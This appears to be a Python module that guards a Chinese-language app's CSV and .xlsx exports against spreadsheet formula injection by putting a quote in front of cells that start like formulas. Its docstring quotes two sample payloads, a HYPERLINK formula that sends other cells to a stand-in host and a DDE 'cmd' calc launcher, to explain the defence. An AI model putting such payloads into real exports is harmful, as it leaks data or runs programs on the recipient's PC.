"""Every cell the app writes into a CSV or .xlsx file is inert text: a spreadsheet never runs it.

Rule: a cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab (0x09), a carriage return
(0x0D), a line feed (0x0A) or NUL (0x00) — also after leading white space (ASCII or the full-width
space U+3000) — is written with a single quote in front (``'=HYPERLINK(…)``). That holds for the
header row as much as for the data, and for a legitimate value too: ``-5`` becomes ``'-5`` and a
phone number written ``+86 138…`` becomes ``'+86 138…``, exactly as OWASP advises (a harmless value
is never guessed at, since ``-1+cmd|' /C calc'!A0`` also starts with a digit after its sign). Any
other text is written unchanged. The .xlsx writer (store/spreadsheet_writer.py) also stores every
cell as an explicit string, never a formula; the CSV writer quotes separators, quotes and line
breaks as RFC 4180 says (Python's ``csv`` module), so a payload cannot start a cell of its own
after a comma.

Leading white space: Excel evaluates ``" =1+1"`` as text, but LibreOffice's "trim spaces" import
option and other tools strip it first, so white space in front of a dangerous character does not
make it safe; the quote goes in front of the whole value, which keeps the spaces as they were.

Reason: rejected rows, exports and copies carry text that came from a spreadsheet or a person
(names, notes, headers). Opened in Excel, WPS or LibreOffice, a cell such as
``=HYPERLINK("http://x/?"&A2)`` or ``-1+cmd|' /C calc'!A0`` (DDE) leaks the other cells or runs a
program on the manager's PC (OWASP "CSV Injection"; CWE-1236; OWASP ASVS 5.0 1.2.10).

Where it applies (every writer goes through ``safe_cell`` / ``safe_row``): the import's rejects
export (.csv and .xlsx). The app writes no other CSV or .xlsx today: the audit export is JSON Lines,
a client's data copy is PDF and JSON, certificates and forms are PDF. A new tabular export must use
``safe_row`` and the writers below.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = frozenset({"=", "+", "-", "@", "\t", "\r", "\n", "\x00"})
"""First characters that make a spreadsheet read a cell as a formula (or as a command: DDE)."""

_LEADING_SPACE = " \u3000"  # ASCII and full-width (ideographic) spaces; tab and CR are starts above
QUOTE = "'"


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula: its first character, or its first
    character after leading spaces, is one of ``FORMULA_STARTS``."""
    if not text:
        return False
    if text[0] in FORMULA_STARTS:
        return True
    rest = text.lstrip(_LEADING_SPACE)
    return bool(rest) and rest[0] in FORMULA_STARTS


def needs_quote(text: str) -> bool:
    """Whether ``safe_cell`` puts a quote in front: the text starts like a formula, or does so after
    quotes of its own (so that ``unquote_cell`` is its exact inverse: ``'=1`` is written ``''=1``)."""
    return starts_like_formula(text.lstrip(QUOTE))


def safe_cell(value: object) -> str:
    """``value`` as text that no spreadsheet runs: a single quote in front when it starts like a
    formula (see the module docstring), otherwise unchanged. ``None`` is the empty cell."""
    text = "" if value is None else str(value)
    return QUOTE + text if needs_quote(text) else text


def unquote_cell(text: str) -> str:
    """The inverse of ``safe_cell`` for text read back from a spreadsheet the app wrote (a rejects
    file fixed and imported again): a quote in front of what starts like a formula is dropped, so
    ``'+86 138…`` is a phone number again. Any other text is unchanged. Whatever comes in is made
    inert again on the way out, so this never lets a formula through."""
    if text.startswith(QUOTE) and needs_quote(text[1:]):
        return text[1:]
    return text


def safe_row(values: Iterable[object]) -> list[str]:
    """A whole row (header or data) through ``safe_cell``."""
    return [safe_cell(value) for value in values]


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """The rows as CSV in UTF-8 with a byte-order mark (so Excel reads Chinese correctly), every
    cell through ``safe_cell``, CRLF line ends, separators and quotes escaped (RFC 4180)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow(safe_row(row))
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
